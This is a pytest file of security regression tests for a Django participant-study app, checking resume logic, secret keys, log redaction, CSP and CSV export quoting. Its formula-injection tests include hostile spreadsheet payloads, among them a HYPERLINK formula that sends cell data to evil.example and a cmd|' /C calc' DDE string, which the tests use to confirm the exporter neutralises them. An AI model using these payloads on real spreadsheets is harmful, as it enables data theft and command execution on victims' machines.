"""The attacks found by probing the demo, each tried again here.

DEBUG off by default, no hard-coded SECRET_KEY, Prolific resume only on the full (PID, STUDY_ID, SESSION_ID)
triple, non-finite response times, CSV formula injection, over-long link parameters, double consent, echoed
answers, Content-Security-Policy, tokens kept out of the access log, clip revalidation (ETag / 304).
"""
from __future__ import annotations

import csv
import io
import logging
import os
import re
import socket
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.contrib.sessions.backends.db import SessionStore
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from studyapp.data.export import safe_cell, stream_csv
from studyapp.models import Assignment, Clip, Participant, Response, Study
from studyapp.participant.assignment import current_step
from studyapp.questions import questions_for
from studyapp.security import CONTENT_SECURITY_POLICY, RedactTokensFilter, redact
from studyapp.staff.presets import create_study_from_preset
from studyapp.testing import make_catalogue, write_media

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.django_db
TRIPLE = {"PROLIFIC_PID": "5f1e2d3c4b5a69788796a5b4", "STUDY_ID": "stud-42", "SESSION_ID": "sess-77"}


def qs(**params) -> str:
    return "?" + "&".join(f"{k}={v}" for k, v in params.items())


@pytest.fixture
def study(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    make_catalogue(settings.MEDIA_ROOT)
    Clip.objects.update(plan="demo")        # the demo preset's pools may filter on the demo plan
    s = create_study_from_preset("demo", "demo", status=Study.Status.OPEN)
    s.sections.update(require_full_play=False)
    return s


def entry(study: Study) -> str:
    return reverse("studyapp:study_entry", args=[study.slug])


def consent(client: Client, study: Study, query: str = "", **extra) -> Participant:
    page = client.get(entry(study) + query)
    key = re.search(rb'name="consent_key" value="([^"]+)"', page.content).group(1).decode()
    r = client.post(entry(study) + query, {"consent": "on", "consent_key": key, **extra})
    assert r.status_code == 302, r.content[:500]
    return Participant.objects.get(token=r["Location"].rstrip("/").split("/")[-1])


def answer_for(a: Assignment) -> dict:
    return {q.key: q.choices[0][0] for q in questions_for(a.section.section_type, a.section.options, a.clip.theme,
                                                          a.options)}


def to_first_clip(client: Client, p: Participant) -> Assignment:
    client.post(reverse("studyapp:demographics", args=[p.token]), {"gender": "female", "age_group": "25-34"})
    client.get(reverse("studyapp:resume", args=[p.token]))
    p.refresh_from_db()
    a = current_step(p).assignment
    client.get(reverse("studyapp:item", args=[p.token, 1]))
    return a


# ---- DEBUG and SECRET_KEY ----------------------------------------------------------------------------------

def test_demo_does_not_turn_debug_on():
    demo = (ROOT / "demo.sh").read_text()
    assert "DEBUG:-1" not in demo and 'DEBUG="${DEBUG:-0}"' in demo


def _settings(env: dict[str, str], expr: str) -> str:
    full = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "DEBUG", "PRODUCTION", "SECRET_KEY"}}
    full.update(DJANGO_SETTINGS_MODULE="studyapp.settings", **env)
    out = subprocess.run([sys.executable, "-c", f"import django; from django.conf import settings; django.setup(); "
                          f"print({expr})"], cwd=ROOT, env=full, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    return out.stdout.strip().splitlines()[-1]


def test_secret_key_generated_once_into_data_dir_with_mode_600(tmp_path):
    first = _settings({"DATA_DIR": str(tmp_path)}, "settings.SECRET_KEY")
    path = tmp_path / "secret_key"
    assert len(first) >= 50 and path.read_text().strip() == first
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert _settings({"DATA_DIR": str(tmp_path)}, "settings.SECRET_KEY") == first        # kept, not regenerated
    other = tmp_path / "other"
    assert _settings({"DATA_DIR": str(other)}, "settings.SECRET_KEY") != first          # random per install
    assert _settings({"DATA_DIR": str(tmp_path), "SECRET_KEY": "e" * 60}, "settings.SECRET_KEY") == "e" * 60
    assert not list(tmp_path.glob(".secret_key.*"))                                     # no temporary left


def test_no_hard_coded_secret_key_in_the_code():
    for path in [*(ROOT / "studyapp").rglob("*.py"), ROOT / "demo.sh", ROOT / "manage.py"]:
        text = path.read_text()
        assert not re.search(r"SECRET_KEY\s*=\s*['\"]", text), path
        assert "insecure-development-key" not in text, path


# ---- Prolific resume ---------------------------------------------------------------------------------------

def test_prolific_pid_alone_does_not_resume_someone(study):
    victim_browser = Client()
    p = consent(victim_browser, study, qs(**TRIPLE))
    assert (p.external_id, p.external_study_id, p.external_session_id) == tuple(TRIPLE.values())
    a = to_first_clip(victim_browser, p)
    # the attack: the PID alone (or with a wrong STUDY_ID / SESSION_ID) from another browser
    for params in ({"PROLIFIC_PID": TRIPLE["PROLIFIC_PID"]}, {**TRIPLE, "SESSION_ID": "guess"},
                   {**TRIPLE, "STUDY_ID": "guess"}):
        attacker = Client()
        r = attacker.get(entry(study) + qs(**params))
        assert r.status_code == 403 and p.token.encode() not in r.content
        assert b"already started this study in another browser" in r.content
        r = attacker.post(entry(study) + qs(**params), {"consent": "on", **params})
        assert r.status_code == 403 and p.token.encode() not in r.content
    assert Participant.objects.filter(study=study).count() == 1
    assert not Response.objects.exists()
    # the real participant on a second device, from the same Prolific link, resumes
    r = Client().get(entry(study) + qs(**TRIPLE))
    assert r.status_code == 302 and p.token in r["Location"]
    # and the first browser resumes whatever the link
    assert victim_browser.get(entry(study) + qs(PROLIFIC_PID=TRIPLE["PROLIFIC_PID"]))["Location"].endswith(
        f"/p/{p.token}/")
    assert a.answered_at is None


def test_participant_without_stored_ids_resumes_only_in_its_browser_and_gets_them_stored(study):
    browser = Client()
    p = consent(browser, study, qs(PROLIFIC_PID="old-pid"))
    assert (p.external_study_id, p.external_session_id) == ("", "")
    assert Client().get(entry(study) + qs(PROLIFIC_PID="old-pid", STUDY_ID="s", SESSION_ID="x")).status_code == 403
    r = browser.get(entry(study) + qs(PROLIFIC_PID="old-pid", STUDY_ID="s", SESSION_ID="x"))
    assert r.status_code == 302 and p.token in r["Location"]
    p.refresh_from_db()
    assert (p.external_study_id, p.external_session_id) == ("s", "x")
    r = Client().get(entry(study) + qs(PROLIFIC_PID="old-pid", STUDY_ID="s", SESSION_ID="x"))
    assert r.status_code == 302 and p.token in r["Location"]


# ---- response times ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("rt", ["inf", "-inf", "1e400", "nan", "NaN", "-5", "9e99", "abc", "", "3600001",
                                "1" * 5000])
def test_non_finite_or_absurd_response_time_uses_the_servers(client, study, rt):
    p = consent(client, study)
    a = to_first_clip(client, p)
    Assignment.objects.filter(pk=a.pk).update(shown_at=timezone.now() - timedelta(seconds=3))
    r = client.post(reverse("studyapp:item", args=[p.token, 1]), {**answer_for(a), "rt": rt})
    assert r.status_code == 302
    ms = {x.response_ms for x in Response.objects.filter(participant=p)}
    assert len(ms) == 1 and 3000 <= ms.pop() < 60_000


def test_client_time_longer_than_the_servers_is_ignored(client, study):
    p = consent(client, study)
    a = to_first_clip(client, p)
    Assignment.objects.filter(pk=a.pk).update(shown_at=timezone.now() - timedelta(seconds=2))
    client.post(reverse("studyapp:item", args=[p.token, 1]), {**answer_for(a), "rt": "1800000"})
    assert Response.objects.filter(participant=p).first().response_ms < 60_000


def test_plausible_client_time_is_kept(client, study):
    p = consent(client, study)
    a = to_first_clip(client, p)
    Assignment.objects.filter(pk=a.pk).update(shown_at=timezone.now() - timedelta(seconds=10))
    client.post(reverse("studyapp:item", args=[p.token, 1]), {**answer_for(a), "rt": "8765.4"})
    assert Response.objects.filter(participant=p).first().response_ms == 8765


# ---- CSV formula injection ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-7", "-7"), ("+3", "+3"), ("-0.25", "-0.25"), ("1e-3", "1e-3"),
    (-7, -7), (1234, 1234), (-0.5, -0.5), ("happy;sad", "happy;sad"), ("", ""), (None, "")])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_exports_neutralise_participant_text_but_keep_negative_ratings(study):
    Study.objects.filter(pk=study.pk).update(export_external_ids=True)      # the ids as given: the risky case
    study.refresh_from_db()
    browser = Client()
    p = consent(browser, study, qs(PROLIFIC_PID='=HYPERLINK("http://evil.example","open")'))
    Participant.objects.filter(pk=p.pk).update(feedback={"comments": "@SUM(1+1)*cmd|' /C calc'!A0",
                                                         "distracted_camera": "no"})
    a = to_first_clip(browser, p)
    Response.objects.create(participant=p, section=a.section, clip=a.clip, question="inversion", answer="-7",
                            response_ms=1500)
    people = list(csv.DictReader(io.StringIO("".join(stream_csv(study, "participants")))))
    assert people[0]["external_id"] == '\'=HYPERLINK("http://evil.example","open")'
    assert people[0]["comments"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    rows = list(csv.DictReader(io.StringIO("".join(stream_csv(study, "responses")))))
    assert [(r["answer"], r["response_ms"]) for r in rows] == [("-7", "1500")]
    for kind in ("responses", "clips", "participants", "assignments"):
        for row in csv.reader(io.StringIO("".join(stream_csv(study, kind)))):
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r")), (kind, cell)
                assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+-][\d.eE+-]+", cell), (kind, cell)


def test_the_documented_quoting_is_what_exports_do():
    """docs/study.md's rule, checked on the exporter: its example comes out as documented, every listed first
    character is quoted, plain numbers are not, and removing the one leading quote gives the typed text back."""
    from studyapp.data.export import safe_cell

    doc = (ROOT / "docs" / "study.md").read_text()
    example = re.search(r"`(=HYPERLINK\(\"x\"\))` is exported as\s+`([^`]+)`", doc)
    assert example, "docs/study.md no longer shows the quoting example"
    assert safe_cell(example.group(1)) == example.group(2)
    for typed in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1"):
        quoted = safe_cell(typed)
        assert quoted == "'" + typed and quoted[1:] == typed
    for number in ("-7", "-0.25", "+3", "12", 7, -0.25):
        assert safe_cell(number) == number


# ---- consent page: link parameters, double submit ----------------------------------------------------------

@pytest.mark.parametrize("name", ["PROLIFIC_PID", "STUDY_ID", "SESSION_ID"])
def test_over_long_link_parameter_is_an_error_on_the_page(client, study, name):
    params = {**TRIPLE, name: "x" * 5000}
    page = client.get(entry(study) + qs(**params))
    assert page.status_code == 200
    assert f"its {name} is longer than 100 characters".encode() in page.content
    assert b"x" * 200 not in page.content                  # the value is not echoed into the page
    r = client.post(entry(study) + qs(**params), {"consent": "on"})
    assert r.status_code == 200 and f"its {name} is longer".encode() in r.content
    assert b"x" * 200 not in r.content and not Participant.objects.exists()


def test_double_consent_submit_creates_one_participant(study):
    browser = Client()
    page = browser.get(entry(study))
    key = re.search(rb'name="consent_key" value="([^"]+)"', page.content).group(1).decode()
    stale = dict(browser.session.items())     # what a second request in flight read before the first finished
    r1 = browser.post(entry(study), {"consent": "on", "consent_key": key})
    # the second click, sent before the first answer came back: the same session as it was at the first click
    second = Client()
    store = SessionStore()
    store.update(stale)
    store.create()
    second.cookies[django_settings.SESSION_COOKIE_NAME] = store.session_key
    r2 = second.post(entry(study), {"consent": "on", "consent_key": key})
    # and a third, after the first finished, in the first browser
    r3 = browser.post(entry(study), {"consent": "on", "consent_key": key})
    assert r1.status_code == r2.status_code == r3.status_code == 302
    assert r1["Location"] == r2["Location"] == r3["Location"]
    assert Participant.objects.filter(study=study).count() == 1
    # another browser session with a made-up key gets its own participant, not that one
    other = Client()
    r4 = other.post(entry(study), {"consent": "on", "consent_key": key})
    assert r4["Location"] != r1["Location"] and Participant.objects.count() == 2
    # after consenting, the same browser may consent again under another Prolific ID (a researcher testing)
    r5 = browser.post(entry(study) + qs(PROLIFIC_PID="second-pid"), {"consent": "on"})
    assert r5.status_code == 302 and r5["Location"] != r1["Location"]


# ---- echo, CSP ---------------------------------------------------------------------------------------------

def test_invalid_answer_is_not_echoed(client, study):
    big = "A" * 1_000_000
    fresh = consent(Client(), study)
    r = Client().post(reverse("studyapp:demographics", args=[fresh.token]), {"gender": big, "age_group": big})
    assert r.status_code == 200 and b"Please choose one of the answers shown." in r.content
    assert b"A" * 21 not in r.content
    p = consent(client, study)
    a = to_first_clip(client, p)
    key = next(iter(answer_for(a)))
    r = client.post(reverse("studyapp:item", args=[p.token, 1]), {key: big})
    assert r.status_code == 400
    assert len(r.content) < 50_000 and b"A" * 21 not in r.content and b"A" * 20 in r.content


def test_content_security_policy_and_no_inline_script(client, study):
    r = client.get(entry(study))
    csp = r["Content-Security-Policy"]
    assert csp == CONTENT_SECURITY_POLICY
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp
    for template in (ROOT / "templates").rglob("*.html"):
        text = re.sub(r"\{%.*?%\}|\{\{.*?\}\}", "T", template.read_text())
        for tag in re.findall(r"<script\b[^>]*>", text):
            assert "src=" in tag, (template, tag)
        assert not re.search(r"<script\b[^>]*>\s*[^<\s]", text), template       # no inline body
        assert not re.search(r"\son[a-z]+=", text), template                 # no inline handlers
        assert 'style="' not in text, template                               # style-src 'self' too


# ---- logs --------------------------------------------------------------------------------------------------

def test_redact():
    line = ('GET /p/Zx8_-tok3n/clip/2/?rt=1 HTTP/1.1 /s/demo/?PROLIFIC_PID=5f1e&STUDY_ID=s1&SESSION_ID=x9 '
            'referer http://h/p/abc/done/')
    out = redact(line)
    for secret in ("Zx8_-tok3n", "5f1e", "s1&", "x9", "/p/abc/"):
        assert secret not in out
    assert "/p/***/clip/2/?rt=1" in out and "PROLIFIC_PID=***&STUDY_ID=***&SESSION_ID=***" in out


def test_django_log_records_are_redacted():
    record = logging.LogRecord("django.request", logging.WARNING, __file__, 1, "%s: %s", ("Not Found",
                               "/p/secrettoken/clip/9/"), None)
    RedactTokensFilter().filter(record)
    assert record.getMessage() == "Not Found: /p/***/clip/9/"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_shipped_gunicorn_command_keeps_tokens_out_of_the_logs_and_debug_off(tmp_path):
    """The attack: request URLs with a participant token and Prolific IDs, then read the server's output."""
    demo = (ROOT / "demo.sh").read_text()
    flags = ["--worker-class", "asgi", "--access-logfile", "-",
             "--logger-class", "studyapp.gunicorn_logging.RedactingLogger"]
    assert "studyapp.asgi:application" in demo and " ".join(flags[:2]) in demo
    assert "--logger-class studyapp.gunicorn_logging.RedactingLogger" in demo
    env = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "PRODUCTION", "DEBUG", "SECRET_KEY"}}
    env.update(DATA_DIR=str(tmp_path), DJANGO_SETTINGS_MODULE="studyapp.settings")
    port = _free_port()
    server = subprocess.Popen([sys.executable, "-m", "gunicorn", "studyapp.asgi:application", "-b", f"127.0.0.1:{port}",
                               "-w", "1", *flags], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True)
    base = f"http://127.0.0.1:{port}"
    secrets = ("tok3nSECRETtok3n", "PIDSECRET", "STUDYSECRET", "SESSIONSECRET")
    try:
        deadline = time.monotonic() + 90
        while True:
            try:
                urllib.request.urlopen(base + "/static/studyapp/study.css", timeout=2)
                break
            except OSError:
                if time.monotonic() > deadline or server.poll() is not None:
                    raise AssertionError("gunicorn did not come up") from None
                time.sleep(0.3)
        bodies = []
        for path in ("/p/tok3nSECRETtok3n/clip/1/", "/s/nope/?PROLIFIC_PID=PIDSECRET&STUDY_ID=STUDYSECRET"
                     "&SESSION_ID=SESSIONSECRET", "/no-such-page/"):
            req = urllib.request.Request(base + path, headers={"Referer": base + "/p/tok3nSECRETtok3n/"})
            try:
                urllib.request.urlopen(req, timeout=30)
            except urllib.error.HTTPError as exc:
                bodies.append(exc.read().decode(errors="replace"))
    finally:
        server.terminate()
        out, _ = server.communicate(timeout=30)
    assert "/p/***/clip/1/" in out and "PROLIFIC_PID=***" in out, out
    for secret in secrets:
        assert secret not in out, out
    # DEBUG is off: no URL pattern list, no traceback, no settings in any answer
    for text in bodies:
        assert "URLconf" not in text and "Traceback" not in text and "DATABASES" not in text
        assert len(text) < 2000


# ---- clip revalidation -------------------------------------------------------------------------------------

def test_clip_etag_and_304(admin_client, settings, tmp_path):
    client = admin_client              # a session that may see the clip (studyapp.participant.views.media_allowed)
    settings.MEDIA_ROOT = tmp_path / "media"
    rel = write_media(settings.MEDIA_ROOT, b"0123456789" * 100)
    clip = Clip.objects.create(clip_id="c1", modality="gait", origin="generated", video=rel)
    url = reverse("studyapp:media", kwargs={"key": clip.media_key, "ext": "mp4"})
    r = client.get(url)
    etag, last = r["ETag"], r["Last-Modified"]
    assert r.status_code == 200 and etag.startswith('"')
    r = client.get(url, HTTP_IF_NONE_MATCH=etag)
    assert r.status_code == 304 and r.content == b"" and r["ETag"] == etag
    assert client.get(url, HTTP_IF_NONE_MATCH='"other"').status_code == 200
    assert client.get(url, HTTP_IF_MODIFIED_SINCE=last).status_code == 304
    r = client.get(url, HTTP_RANGE="bytes=0-9", HTTP_IF_RANGE=etag)
    assert r.status_code == 206
    r = client.get(url, HTTP_RANGE="bytes=0-9", HTTP_IF_RANGE='"stale"')
    assert r.status_code == 200 and r["Content-Length"] == "1000"


def _inline_code(html: str) -> list[str]:
    """Inline scripts, event-handler attributes and style attributes in a rendered page (all refused by the CSP)."""
    found = re.findall(r"<script\b(?![^>]*\bsrc=)[^>]*>\s*[^<\s][^<]{0,60}", html)
    found += re.findall(r"<[a-z][^>]*\son[a-z]+=\"[^\"]{0,60}", html)
    found += re.findall(r"<[a-z][^>]*\sstyle=\"[^\"]{0,60}", html)
    return found


def test_researcher_and_admin_pages_need_no_inline_code(client, study):
    from django.contrib.auth.models import User

    User.objects.create_user("researcher", password="pw-researcher-1", is_staff=True, is_superuser=True)
    client.login(username="researcher", password="pw-researcher-1")
    urls = ["/admin/", reverse("admin:studyapp_study_changelist"),
            reverse("admin:studyapp_study_change", args=[study.pk]), reverse("admin:studyapp_study_add"),
            reverse("admin:studyapp_participant_changelist"), reverse("studyapp:progress", args=[study.pk]),
            reverse("studyapp:preview_start", args=[study.pk]), reverse("studyapp:preview_item", args=[study.pk, 1]),
            reverse("studyapp:create_from_preset")]
    for url in urls:
        r = client.get(url)
        assert r.status_code == 200, url
        assert "Content-Security-Policy" in r
        assert _inline_code(r.content.decode()) == [], url
